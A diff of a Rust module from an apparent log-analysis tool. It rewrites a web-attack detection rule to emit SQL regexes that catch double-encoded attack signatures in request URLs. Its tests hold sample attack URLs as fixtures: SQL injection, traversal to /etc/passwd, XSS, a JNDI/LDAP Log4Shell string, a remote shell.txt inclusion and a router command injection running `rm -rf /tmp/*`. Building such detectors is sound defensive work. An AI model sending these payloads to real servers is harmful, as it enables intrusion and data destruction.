@@ -1,25 +1,20 @@
-//! `web_attack`: requests whose URL, percent-decoded twice (attackers double-encode to slip past
-//! filters), matches a signature of `queries/web_signatures.tsv`: SQL injection, path traversal,
-//! XSS, command injection, remote file inclusion, sensitive files, known exploit and CVE paths,
+//! The signatures of the `web_attack` rule (`queries/web_attack.sql`): requests whose URL,
+//! percent-decoded up to twice (attackers double-encode to slip past filters) and lower-cased,
+//! holds a signature of `queries/web_signatures.tsv`: SQL injection, path traversal, XSS,
+//! command injection, remote file inclusion, sensitive files, known exploit and CVE paths,
 //! admin-interface and WordPress probing, technology fingerprinting. The signatures are data
-//! (pattern, category, severity, severity when answered 2xx, reference); the `signatures_file`
+//! (category, severity, severity when answered 2xx, pattern, reference); the `signatures_file`
 //! parameter replaces them with an analyst's own file of the same shape.
+//!
+//! The rule is SQL, so it runs on every engine the rules are exported to. No engine decodes URLs
+//! alike (Spark's `url_decode` throws on a stray `%`), so the URL is not decoded: each pattern
+//! becomes a regular expression over the raw URL that finds every encoded form of it
+//! ([`url_regex`]), and the rule's data table (`-- data: web_signatures`) carries them inlined
+//! as a `VALUES` list.
 
-use std::collections::BTreeMap;
 use std::sync::LazyLock;
 
-use aho_corasick::AhoCorasick;
-use polars::prelude::*;
-
-use crate::query::Run;
-use rayon::prelude::*;
-
-use super::config::{Param, Value};
-use super::finding::{Draft, Severity};
-use super::{Ctx, Rule};
-use crate::error::AnalysisError;
-use crate::query::frame;
-use crate::schema::action;
+use super::finding::Severity;
 
 /// The built-in signature file.
 pub const BUILTIN_SIGNATURES: &str = include_str!("../../queries/web_signatures.tsv");
@@ -35,14 +30,10 @@ pub struct Signature {
     pub reference: String,
 }
 
-/// A loaded signature set with its matcher.
+/// A loaded signature set.
+#[derive(Clone)]
 pub struct Signatures {
     pub list: Vec<Signature>,
-    matcher: AhoCorasick,
-    /// A regex every URL that can match after decoding also matches before decoding (any
-    /// pattern as written, or a `%`/`+` that decoding may turn into one), for polars to run
-    /// over the whole column before the URLs are decoded one by one.
-    pub prefilter: String,
 }
 
 impl Signatures {
@@ -82,11 +73,7 @@ impl Signatures {
         if list.is_empty() {
             return Err(format!("{origin}: no signatures"));
         }
-        let matcher =
-            AhoCorasick::new(list.iter().map(|s| s.pattern.as_str())).map_err(|e| format!("{origin}: {e}"))?;
-        let alternation: Vec<String> = list.iter().map(|s| regex::escape(&s.pattern)).collect();
-        let prefilter = format!("(?i)[%+]|{}", alternation.join("|"));
-        Ok(Signatures { list, matcher, prefilter })
+        Ok(Signatures { list })
     }
 
     /// The built-in set.
@@ -96,218 +83,344 @@ impl Signatures {
         });
         &S
     }
+}
 
-    /// Indices of the signatures found in a decoded URL, the first of each category.
-    pub fn classify(&self, decoded: &str) -> Vec<usize> {
-        let mut out: Vec<usize> = Vec::new();
-        for m in self.matcher.find_overlapping_iter(decoded) {
-            let i = m.pattern().as_usize();
-            if !out.iter().any(|&j| self.list[j].category == self.list[i].category) {
-                out.push(i);
+/// A severity as the rank the SQL rule compares (low 1 … critical 4).
+fn rank(s: Severity) -> u8 {
+    match s {
+        Severity::Low => 1,
+        Severity::Medium => 2,
+        Severity::High => 3,
+        Severity::Critical => 4,
+    }
+}
+
+/// A character as a regex literal every engine the rules run on reads alike (Rust `regex`, RE2,
+/// Java): metacharacters escaped with a backslash, the rest as they are.
+fn literal(c: char) -> String {
+    if "\\.+*?()|[]{}^$".contains(c) {
+        format!("\\{c}")
+    } else {
+        c.to_string()
+    }
+}
+
+/// Characters as a regex matching any one of them: `x`, or `[xX]` (letters only).
+fn class(chars: &[char]) -> String {
+    match chars {
+        [c] => literal(*c),
+        _ => format!("[{}]", chars.iter().collect::<String>()),
+    }
+}
+
+/// The hexadecimal digit of a nibble in both cases (`b`, `B`).
+fn hex_digit(n: u8) -> Vec<char> {
+    let d = char::from_digit(u32::from(n), 16).unwrap_or('0');
+    let up = d.to_ascii_uppercase();
+    if up == d {
+        vec![d]
+    } else {
+        vec![d, up]
+    }
+}
+
+/// `%HH`, a byte percent-encoded (either case of a letter digit).
+fn percent(b: u8) -> String {
+    format!("%{}{}", class(&hex_digit(b >> 4)), class(&hex_digit(b & 15)))
+}
+
+/// What decodes once into one of the ASCII characters `set`: each as written, or `%HH`; with
+/// `plus`, a `+` too for a space (the query's `+` is a space before it is decoded).
+fn once_in(set: &[char], plus: bool) -> String {
+    let mut alts = vec![class(set)];
+    if plus && set.contains(&' ') {
+        alts.push(literal('+'));
+    }
+    alts.extend(set.iter().map(|&c| percent(c as u8)));
+    format!("(?:{})", alts.join("|"))
+}
+
+fn once(set: &[char]) -> String {
+    once_in(set, false)
+}
+
+/// What decodes once into `%HH` for byte `b`, each of its three characters as written or
+/// percent-encoded (`%2527`, `%%32%37`): decoded a second time, byte `b`.
+fn twice(b: u8) -> String {
+    format!("{}{}{}", once(&['%']), once(&hex_digit(b >> 4)), once(&hex_digit(b & 15)))
+}
+
+/// The regex that finds `pattern` (lower case) in a raw URL, in every form that percent-decoding
+/// once or twice and lower-casing turn into it: each character as written in either case,
+/// percent-encoded (`%27`), or that encoding encoded again, whole or digit by digit (`%2527`,
+/// `%%32%37`). Run over `path?query` (the query's `+` already spaces), it finds what decoding
+/// would show; with `plus`, over a query as written (a `+` standing for a space). It also fires on a pattern written out after a `%` that decoding would have taken
+/// as an escape (`%1bench…`), a raw URL holding the pattern as text all the same. It uses only
+/// what Rust `regex`, RE2 (DuckDB, Trino) and Java (Spark) read alike.
+pub fn url_regex(pattern: &str, plus: bool) -> String {
+    let mut out = String::new();
+    for c in pattern.chars() {
+        let mut set = vec![c];
+        let mut up = c.to_uppercase();
+        if let (Some(u), None) = (up.next(), up.next()) {
+            if u != c {
+                set.push(u);
             }
         }
-        out.sort_unstable();
-        out
-    }
-}
-
-/// Percent-decodes twice (`+` as space in the query), lower-cased.
-pub fn decode(path: &str, query: Option<&str>) -> String {
-    let once = |s: &str| percent_encoding::percent_decode_str(s).decode_utf8_lossy().into_owned();
-    let mut text = once(&once(path));
-    if let Some(q) = query {
-        text.push('?');
-        text.push_str(&once(&once(&q.replace('+', " "))));
-    }
-    text.to_lowercase()
-}
-
-/// [`decode`] that skips the decoding and lower-casing work when the URL has nothing to decode
-/// or lower-case (the common case).
-pub fn decode_fast<'a>(path: &'a str, query: Option<&'a str>) -> std::borrow::Cow<'a, str> {
-    let plain = |s: &str| !s.bytes().any(|b| b == b'%' || b == b'+' || b.is_ascii_uppercase() || b >= 0x80);
-    match query {
-        None if plain(path) => std::borrow::Cow::Borrowed(path),
-        Some(q) if plain(path) && plain(q) => std::borrow::Cow::Owned(format!("{path}?{q}")),
-        _ => std::borrow::Cow::Owned(decode(path, query)),
-    }
-}
-
-pub struct WebAttack;
-
-impl Rule for WebAttack {
-    fn id(&self) -> &'static str {
-        "web_attack"
-    }
-    fn description(&self) -> &'static str {
-        "Requests whose URL (percent-decoded twice) matches a signature of queries/web_signatures.tsv (SQL injection, traversal, XSS, command injection, remote file inclusion, sensitive files, exploit and CVE paths, admin and WordPress probing, fingerprinting); severity from the signatures, raised when a matching request got a 2xx answer."
-    }
-    fn params(&self) -> Vec<Param> {
-        vec![
-            Param::new("min_requests", Value::Int(1), "Matching requests from one source before it is reported."),
-            Param::new(
-                "signatures_file",
-                Value::Str(String::new()),
-                "A signature file (same columns as queries/web_signatures.tsv) to use instead of the built-in one; empty for the built-in.",
-            ),
-        ]
-    }
-    fn run(&self, ctx: &Ctx<'_>) -> Result<Vec<Draft>, AnalysisError> {
-        let min = ctx.config.int(self.id(), "min_requests").max(1) as u64;
-        let file = ctx.config.list(self.id(), "signatures_file").into_iter().next().unwrap_or_default();
-        let own;
-        let sigs = if file.is_empty() {
-            Signatures::builtin()
+        if set.iter().all(char::is_ascii) {
+            let mut alts = vec![once_in(&set, plus)];
+            alts.extend(set.iter().map(|&x| twice(x as u8)));
+            out += &format!("(?:{})", alts.join("|"));
         } else {
-            let text = std::fs::read_to_string(&file)
-                .map_err(|e| AnalysisError::Rule { path: file.clone().into(), msg: e.to_string() })?;
-            own = Signatures::parse(&file, &text)
-                .map_err(|msg| AnalysisError::Rule { path: file.clone().into(), msg })?;
-            &own
-        };
-        // A vectorised first pass keeps only URLs that could hold any pattern once decoded.
-        let prefilter = sigs.prefilter.clone();
-        let maybe = |c: &str| col(c).str().contains(lit(prefilter.clone()), false).fill_null(lit(false));
-        let all = ctx
-            .data
-            .events()?
-            .filter(col("event_action").eq(lit(action::HTTP_REQUEST)).and(col("url_path").is_not_null()))
-            .filter(maybe("url_path").or(maybe("url_query")))
-            .select([
-                col("timestamp"),
-                col("host_name"),
-                col("source_ip"),
-                col("url_path"),
-                col("url_query"),
-                col("http_response_status_code"),
-                col("log_file_path"),
-                col("log_line"),
-            ])
-            .run()?;
-        // Classify every URL in parallel, without copying the column.
-        let paths: Vec<Option<&str>> = all.column("url_path")?.str()?.iter().collect();
-        let queries: Vec<Option<&str>> = all.column("url_query")?.str()?.iter().collect();
-        let hit_rows: Vec<u32> = (0..paths.len())
-            .into_par_iter()
-            .filter(|&i| !sigs.classify(&decode_fast(paths[i].unwrap_or(""), queries[i])).is_empty())
-            .map(|i| i as u32)
-            .collect();
-        let df = all
-            .take(&IdxCa::from_vec("idx".into(), hit_rows.into_iter().map(|i| i as IdxSize).collect()))?
-            .lazy()
-            .sort(["timestamp", "log_file_path", "log_line"], Default::default())
-            .run()?;
-        let ts = frame::ints(&df, "timestamp")?;
-        let host = frame::strs(&df, "host_name")?;
-        let ip = frame::strs(&df, "source_ip")?;
-        let path = frame::strs(&df, "url_path")?;
-        let query = frame::strs(&df, "url_query")?;
-        let status = frame::ints(&df, "http_response_status_code")?;
-        let file = frame::strs(&df, "log_file_path")?;
-        let line = frame::ints(&df, "log_line")?;
-        let mut by_source: BTreeMap<(String, String), Draft> = BTreeMap::new();
-        type Categories<'p> = BTreeMap<&'p str, (u64, &'p Signature)>;
-        let mut cats: BTreeMap<(String, String), Categories<'_>> = BTreeMap::new();
-        let mut answered_2xx: BTreeMap<(String, String), u64> = BTreeMap::new();
-        for i in 0..df.height() {
-            let p = path[i].as_deref().unwrap_or("");
-            let hits = sigs.classify(&decode(p, query[i].as_deref()));
-            if hits.is_empty() {
-                continue;
+            // A character of several bytes: as written, or every byte encoded once, or twice.
+            let mut alts = vec![class(&set)];
+            for x in &set {
+                let mut buf = [0u8; 4];
+                let bytes = x.encode_utf8(&mut buf).as_bytes();
+                alts.push(bytes.iter().map(|&b| percent(b)).collect());
+                alts.push(bytes.iter().map(|&b| twice(b)).collect());
             }
-            let key = (host[i].clone().unwrap_or_default(), ip[i].clone().unwrap_or_default());
-            let d = by_source.entry(key.clone()).or_insert_with(|| {
-                let mut d = Draft::new("web_attack", Severity::Low);
-                d.host_name = host[i].clone();
-                d.source_ip = ip[i].clone();
-                d
-            });
-            d.add(ts[i].unwrap_or(0), file[i].as_deref().unwrap_or(""), line[i].unwrap_or(0));
-            d.count += 1;
-            let answered = status[i].is_some_and(|s| (200..300).contains(&s));
-            *answered_2xx.entry(key.clone()).or_default() += u64::from(answered);
-            let c = cats.entry(key).or_default();
-            for j in hits {
-                let sig = &sigs.list[j];
-                d.severity = d.severity.max(if answered { sig.severity_2xx } else { sig.severity });
-                let e = c.entry(sig.category.as_str()).or_insert((0, sig));
-                e.0 += 1;
-            }
+            out += &format!("(?:{})", alts.join("|"));
         }
-        let mut out = Vec::new();
-        for (key, mut d) in by_source {
-            if d.count < min {
-                continue;
-            }
-            let c = &cats[&key];
-            let names: Vec<&str> = c.keys().copied().collect();
-            d.details.insert("answered_2xx".into(), answered_2xx.get(&key).copied().unwrap_or(0).into());
-            for (cat, (n, sig)) in c {
-                d.details.insert(format!("{cat}_requests"), (*n).into());
-                d.details.insert(format!("{cat}_pattern"), sig.pattern.clone().into());
-                d.details.insert(format!("{cat}_reference"), sig.reference.clone().into());
-            }
-            d.title = format!("Web attacks on {} from {}: {} ({} requests)", key.0, key.1, names.join(", "), d.count);
-            out.push(d);
-        }
-        Ok(out)
     }
+    out
+}
+
+impl Signatures {
+    /// The signatures as the rows of a SQL `VALUES` list: (category, severity rank, 2xx severity
+    /// rank, pattern, reference, url_regex), ranks from low 1 to critical 4.
+    pub fn values_sql(&self) -> String {
+        let q = |s: &str| format!("'{}'", s.replace('\'', "''"));
+        self.list
+            .iter()
+            .map(|s| {
+                format!(
+                    "({}, {}, {}, {}, {}, {})",
+                    q(&s.category),
+                    rank(s.severity),
+                    rank(s.severity_2xx),
+                    q(&s.pattern),
+                    q(&s.reference),
+                    q(&url_regex(&s.pattern, false))
+                )
+            })
+            .collect::<Vec<_>>()
+            .join(",\n    ")
+    }
+
+    /// A SQL predicate over `events`, true when any signature matches the request's URL: the
+    /// path and the query each searched alone with one regex ([`url_regex`] of every pattern;
+    /// cheaper than building `path?query` for every request), and `path?query` for the patterns
+    /// that hold a `?` (a match across the two parts).
+    pub fn match_sql(&self) -> String {
+        let q = |s: String| format!("'{}'", s.replace('\'', "''"));
+        let mut seen = std::collections::BTreeSet::new();
+        let unique: Vec<&str> = self.list.iter().map(|s| s.pattern.as_str()).filter(|p| seen.insert(*p)).collect();
+        let any = |pats: &[&str], plus: bool| pats.iter().map(|p| url_regex(p, plus)).collect::<Vec<_>>().join("|");
+        let (across, within): (Vec<&str>, Vec<&str>) = unique.iter().partition(|p| p.contains('?'));
+        let mut parts = Vec::new();
+        if !within.is_empty() {
+            parts.push(format!("REGEXP_LIKE(url_path, {})", q(any(&within, false))));
+            parts.push(format!("REGEXP_LIKE(url_query, {})", q(any(&within, true))));
+        }
+        if !across.is_empty() {
+            parts.push(format!(
+                "REGEXP_LIKE(url_path || COALESCE('?' || REPLACE(url_query, '+', ' '), ''), {})",
+                q(any(&across, false))
+            ));
+        }
+        format!("({})", parts.join(" OR "))
+    }
+
+    /// Loads the set a rule names: the built-in one for an empty path, else the file.
+    pub fn load(path: &str) -> Result<std::borrow::Cow<'static, Signatures>, String> {
+        if path.is_empty() {
+            return Ok(std::borrow::Cow::Borrowed(Signatures::builtin()));
+        }
+        let text = std::fs::read_to_string(path).map_err(|e| format!("{path}: {e}"))?;
+        Signatures::parse(path, &text).map(std::borrow::Cow::Owned)
+    }
+}
+
+/// A `web_attack` finding's `requests_by_category` detail (`"path_traversal: 4, xss: 1"`) as
+/// (category, requests) pairs.
+pub fn category_counts(text: &str) -> Vec<(String, u64)> {
+    text.split(", ")
+        .filter_map(|part| part.rsplit_once(": "))
+        .filter_map(|(cat, n)| Some((cat.to_string(), n.trim().parse().ok()?)))
+        .collect()
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    fn cats(decoded: &str) -> Vec<String> {
-        let s = Signatures::builtin();
-        s.classify(decoded).into_iter().map(|i| s.list[i].category.clone()).collect()
+    /// What the URL holds once percent-decoded twice (`+` in the query a space first) and
+    /// lower-cased: the meaning [`url_regex`] stands for.
+    fn decode(path: &str, query: Option<&str>) -> String {
+        let once = |s: &str| percent_encoding::percent_decode_str(s).decode_utf8_lossy().into_owned();
+        let mut text = once(&once(path));
+        if let Some(q) = query {
+            text.push('?');
+            text.push_str(&once(&once(&q.replace('+', " "))));
+        }
+        text.to_lowercase()
+    }
+
+    /// The raw URL as the rule matches it: `path?query`, the query's `+` spaces.
+    fn raw(path: &str, query: Option<&str>) -> String {
+        match query {
+            Some(q) => format!("{path}?{}", q.replace('+', " ")),
+            None => path.to_string(),
+        }
+    }
+
+    /// The categories whose signatures match a raw URL, as the SQL rule finds them.
+    fn cats(path: &str, query: Option<&str>) -> Vec<String> {
+        let url = raw(path, query);
+        let mut out: Vec<String> = Signatures::builtin()
+            .list
+            .iter()
+            .filter(|s| regex::Regex::new(&url_regex(&s.pattern, false)).unwrap().is_match(&url))
+            .map(|s| s.category.clone())
+            .collect();
+        out.dedup();
+        out
     }
 
     #[test]
     fn double_encoding_is_seen_through() {
-        let d = decode("/products", Some("id=1%2520UNION%2520SELECT%2520password%2520FROM%2520users"));
-        assert_eq!(cats(&d), ["sql_injection"]);
-        let d = decode("/index.php", Some("page=..%2F..%2Fetc%2Fpasswd"));
-        assert_eq!(cats(&d), ["path_traversal"]);
-        let d = decode("/search", Some("q=%3Cscript%3Ealert(1)%3C/script%3E"));
-        assert_eq!(cats(&d), ["xss"]);
-        assert_eq!(cats(&decode("/.git/config", None)), ["sensitive_file"]);
-        assert!(cats(&decode("/products", Some("page=2&sort=price"))).is_empty());
-        assert!(cats(&decode("/img/logo.png", None)).is_empty());
+        assert_eq!(
+            cats("/products", Some("id=1%2520UNION%2520SELECT%2520password%2520FROM%2520users")),
+            ["sql_injection"]
+        );
+        assert_eq!(cats("/products", Some("id=1+UNION+SELECT+password")), ["sql_injection"]);
+        assert_eq!(cats("/index.php", Some("page=..%2F..%2Fetc%2Fpasswd")), ["path_traversal"]);
+        assert_eq!(cats("/index.php", Some("page=%252e%252e%252fetc%252fpasswd")), ["path_traversal"]);
+        assert_eq!(cats("/index.php", Some("page=%%32%65%%32%65/etc/passwd")), ["path_traversal"]);
+        assert_eq!(cats("/search", Some("q=%3Cscript%3Ealert(1)%3C/script%3E")), ["xss"]);
+        assert_eq!(cats("/search", Some("q=%3CScRiPt%3E")), ["xss"]);
+        assert_eq!(cats("/.git/config", None), ["sensitive_file"]);
+        assert!(cats("/products", Some("page=2&sort=price")).is_empty());
+        assert!(cats("/img/logo.png", None).is_empty());
+        assert!(cats("/union", Some("select=1")).is_empty(), "the words apart are no injection");
     }
 
     #[test]
     fn probes_beyond_injection() {
-        assert_eq!(cats(&decode("/index.php", Some("file=http://198.51.100.9/shell.txt"))), ["rfi"]);
-        assert_eq!(cats(&decode("/_ignition/execute-solution", None)), ["exploit"]);
-        assert_eq!(cats(&decode("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None)), ["exploit"]);
-        assert_eq!(cats(&decode("/boaform/admin/formLogin", Some("username=admin&psd=Feefifofum"))), ["exploit"]);
-        assert_eq!(cats(&decode("/HNAP1/", None)), ["exploit"]);
-        assert_eq!(cats(&decode("/GponForm/diag_Form", Some("images/"))), ["exploit"]);
-        assert_eq!(cats(&decode("/actuator/gateway/routes", None)), ["exploit"]);
-        assert_eq!(
-            cats(&decode("/setup.cgi", Some("next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*"))),
-            ["exploit"]
-        );
-        assert_eq!(cats(&decode("/phpMyAdmin/index.php", None)), ["admin_probe"]);
-        assert_eq!(cats(&decode("/manager/html", None)), ["admin_probe"]);
-        assert_eq!(cats(&decode("/wp-login.php", None)), ["wordpress"]);
-        assert_eq!(cats(&decode("/xmlrpc.php", None)), ["wordpress"]);
-        assert_eq!(cats(&decode("/wp-content/plugins/wp-file-manager/readme.txt", None)), ["wordpress"]);
-        assert_eq!(cats(&decode("/", Some("x=${jndi:ldap://198.51.100.9/a}"))), ["exploit"]);
-        assert_eq!(cats(&decode("/info.php", None)), ["tech_fingerprint"]);
+        assert_eq!(cats("/index.php", Some("file=http://198.51.100.9/shell.txt")), ["rfi"]);
+        assert_eq!(cats("/_ignition/execute-solution", None), ["exploit"]);
+        assert_eq!(cats("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None), ["exploit"]);
+        assert_eq!(cats("/boaform/admin/formLogin", Some("username=admin&psd=Feefifofum")), ["exploit"]);
+        assert_eq!(cats("/HNAP1/", None), ["exploit"]);
+        assert_eq!(cats("/GponForm/diag_Form", Some("images/")), ["exploit"]);
+        assert_eq!(cats("/actuator/gateway/routes", None), ["exploit"]);
+        assert_eq!(cats("/setup.cgi", Some("next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*")), ["exploit"]);
+        assert_eq!(cats("/phpMyAdmin/index.php", None), ["admin_probe"]);
+        assert_eq!(cats("/manager/html", None), ["admin_probe"]);
+        assert_eq!(cats("/wp-login.php", None), ["wordpress"]);
+        assert_eq!(cats("/xmlrpc.php", None), ["wordpress"]);
+        assert_eq!(cats("/wp-content/plugins/wp-file-manager/readme.txt", None), ["wordpress"]);
+        assert_eq!(cats("/", Some("x=${jndi:ldap://198.51.100.9/a}")), ["exploit"]);
+        assert_eq!(cats("/", Some("x=%24%7Bjndi:ldap://198.51.100.9/a%7D")), ["exploit"]);
+        assert_eq!(cats("/info.php", None), ["tech_fingerprint"]);
+    }
+
+    /// Every pattern, written in the ways attackers hide it, is found exactly when decoding
+    /// shows it; a small deterministic generator adds mixed and broken encodings.
+    #[test]
+    fn the_regex_finds_what_decoding_shows() {
+        let enc1 = |s: &str| s.bytes().map(|b| format!("%{b:02X}")).collect::<String>();
+        let enc1_lower = |s: &str| s.bytes().map(|b| format!("%{b:02x}")).collect::<String>();
+        let enc2 = |s: &str| s.bytes().map(|b| format!("%25{b:02X}")).collect::<String>();
+        let digitwise = |s: &str| s.bytes().map(|b| format!("%{}", enc1(&format!("{b:02x}")))).collect::<String>();
+        let mut rng = 0x2545_f491_4f6c_dd1du64;
+        let mut next = move |n: usize| {
+            rng ^= rng << 13;
+            rng ^= rng >> 7;
+            rng ^= rng << 17;
+            (rng % n as u64) as usize
+        };
+        for sig in &Signatures::builtin().list {
+            let re = regex::Regex::new(&url_regex(&sig.pattern, false)).unwrap();
+            let p = &sig.pattern;
+            let upper = p.to_uppercase();
+            for form in [p.clone(), upper.clone(), enc1(p), enc1_lower(&upper), enc2(p), digitwise(p), enc2(&upper)] {
+                let path = format!("/a{}", form.replace('?', "%3F").replace('#', "%23"));
+                assert!(decode(&path, None).contains(p.as_str()), "{path} should decode to hold {p}");
+                assert!(re.is_match(&raw(&path, None)), "{p} missed in {path}");
+            }
+            // Each character in its own form, with noise around.
+            for _ in 0..20 {
+                let mut form = String::from("/x?");
+                for c in p.chars() {
+                    let s = if next(2) == 0 { c.to_string() } else { c.to_uppercase().to_string() };
+                    form += &match next(4) {
+                        0 => s.replace('?', "%3F").replace('#', "%23").replace('+', "%2B").replace('&', "%26"),
+                        1 => enc1(&s),
+                        2 => enc2(&s),
+                        _ => digitwise(&s),
+                    };
+                }
+                let (path, query) = form.split_once('?').unwrap();
+                let shown = decode(path, Some(query)).contains(p.as_str());
+                assert!(shown, "{form} should decode to hold {p}");
+                assert!(re.is_match(&raw(path, Some(query))), "{p} missed in {form}");
+            }
+        }
+        // Random URLs of pattern pieces, escapes and stray percent signs: whatever decoding
+        // shows, the regex finds.
+        let pieces =
+            ["%", "%2", "%25", "%27", "'", " or ", "+", "1=1", "%3d", "..", "/", "%2f", "etc", "passwd", "A", "%41"];
+        let sigs: Vec<(String, regex::Regex, regex::Regex)> = Signatures::builtin()
+            .list
+            .iter()
+            .map(|s| {
+                (
+                    s.pattern.clone(),
+                    regex::Regex::new(&url_regex(&s.pattern, false)).unwrap(),
+                    regex::Regex::new(&url_regex(&s.pattern, true)).unwrap(),
+                )
+            })
+            .collect();
+        for _ in 0..3000 {
+            let q: String = (0..next(12)).map(|_| pieces[next(pieces.len())]).collect();
+            let decoded = decode("/p", Some(&q));
+            for (p, re, re_plus) in &sigs {
+                if decoded.contains(p.as_str()) {
+                    assert!(re.is_match(&raw("/p", Some(&q))), "{p} missed in /p?{q} ({decoded})");
+                    assert!(re_plus.is_match(&q), "{p} missed in the query {q} as written ({decoded})");
+                }
+            }
+        }
     }
 
     #[test]
-    fn the_prefilter_passes_everything_a_signature_can_match() {
+    fn the_regexes_run_on_rust_and_stay_small() {
         let s = Signatures::builtin();
-        let re = regex::Regex::new(&s.prefilter).unwrap();
-        for sig in &s.list {
-            let raw = sig.pattern.replace(' ', "%20");
-            assert!(re.is_match(&raw), "prefilter misses {}", sig.pattern);
-            assert!(re.is_match(&raw.to_uppercase()), "prefilter misses {} in upper case", sig.pattern);
-        }
-        assert!(!re.is_match("/products/42") && !re.is_match("page=3&sort=price"));
+        let pred = s.match_sql();
+        assert!(pred.len() < 400_000, "{} bytes", pred.len());
+        assert!(pred.starts_with("(REGEXP_LIKE(url_path, '") && pred.contains(" OR REGEXP_LIKE(url_query, '"));
+        assert!(!pred.contains("COALESCE"), "no built-in pattern holds a `?`");
+        let any: Vec<String> = s.list.iter().map(|x| url_regex(&x.pattern, false)).collect();
+        let re = regex::Regex::new(&any.join("|")).unwrap();
+        assert!(re.is_match("/wp-login.php") && re.is_match("/?id=%2527%20or%201=1"));
+        assert!(!re.is_match("/products/42?page=3&sort=price"));
+        let values = s.values_sql();
+        assert_eq!(values.lines().count(), s.list.len());
+        assert!(values.contains("('sql_injection', 2, 3, ''' or ''', "), "quotes doubled: {}", &values[..200]);
+        // A pattern across the path and the query is searched in `path?query`.
+        let own = Signatures::parse("x.tsv", "exploit\thigh\thigh\t/setup.cgi?todo\tref\n").unwrap();
+        assert!(own.match_sql().contains("COALESCE('?' || REPLACE(url_query, '+', ' '), '')"));
+    }
+
+    #[test]
+    fn category_counts_read_back() {
+        assert_eq!(
+            category_counts("path_traversal: 4, xss: 1"),
+            [("path_traversal".to_string(), 4), ("xss".to_string(), 1)]
+        );
+        assert!(category_counts("").is_empty());
     }
 
     #[test]
@@ -317,6 +430,7 @@ mod tests {
         assert!(e.contains("x.tsv:1") && e.contains("huge"), "{e}");
         assert!(Signatures::parse("x.tsv", "xss\tlow\thigh\t<script\n").is_err(), "missing column");
         let s = Signatures::parse("x.tsv", "# c\nxss\tlow\thigh\t<SCRIPT\tref\n").unwrap();
-        assert_eq!(s.classify("<script>"), [0]);
+        assert_eq!(s.list[0].pattern, "<script");
+        assert!(regex::Regex::new(&url_regex(&s.list[0].pattern, true)).unwrap().is_match("q=%3cScript"));
     }
 }
